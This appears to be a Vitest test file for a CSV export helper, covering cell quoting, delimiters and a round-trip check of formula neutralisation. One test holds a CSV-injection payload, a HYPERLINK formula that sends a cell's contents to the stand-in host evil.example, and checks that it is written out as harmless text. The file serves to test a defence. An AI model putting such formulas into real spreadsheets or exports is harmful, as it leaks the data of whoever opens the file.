import { expect, test } from 'vitest';
import {
  createCsv,
  DEFAULT_CSV_FILE_NAME,
  neutraliseCsvFormula,
  quoteCsvCell,
  restoreCsvFormula,
} from './csv.ts';

test('quotes are doubled and every cell quoted', () => {
  expect(quoteCsvCell('Säg "hej"')).toBe('"Säg ""hej"""');
  expect(quoteCsvCell(null)).toBe('""');
  expect(quoteCsvCell(undefined)).toBe('""');
  expect(quoteCsvCell(12.5)).toBe('"12.5"');
  expect(quoteCsvCell(false)).toBe('"false"');
});

test('a table with header, delimiter and line endings', () => {
  expect(
    createCsv(
      ['Namn', 'Lön'],
      [
        ['Anna, "A"', 30000],
        ['Bo', null],
      ],
    ),
  ).toBe('"Namn","Lön"\r\n"Anna, ""A""","30000"\r\n"Bo",""');
  expect(createCsv(['a'], [['x;y']], { delimiter: ';', lineEnding: '\n' })).toBe('"a"\n"x;y"');
  expect(DEFAULT_CSV_FILE_NAME).toBe('table-data.csv');
});

test('a text a spreadsheet would run as a formula is written as text (OWASP CSV injection)', () => {
  expect(quoteCsvCell('=HYPERLINK("https://evil.example/?d="&C2,"Öppna")')).toBe(
    `"'=HYPERLINK(""https://evil.example/?d=""&C2,""Öppna"")"`,
  );
  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
    expect(quoteCsvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
  }
  expect(quoteCsvCell('Storgatan 1')).toBe('"Storgatan 1"');
  expect(quoteCsvCell('a=b')).toBe('"a=b"');
  // A number is no formula: a spreadsheet should read it as minus five.
  expect(quoteCsvCell(-5)).toBe('"-5"');
  expect(createCsv(['a'], [['-5']])).toBe(`"a"\r\n"'-5"`);
});

test('the import takes off exactly what the export put on', () => {
  for (const text of ['=1+1', "'=1+1", "''-5", "'Olle", 'vanlig', '', '@SUM(A1)', "'"]) {
    expect(restoreCsvFormula(neutraliseCsvFormula(text))).toBe(text);
  }
  expect(neutraliseCsvFormula("'=1+1")).toBe("''=1+1");
  expect(neutraliseCsvFormula("'Olle")).toBe("'Olle");
});
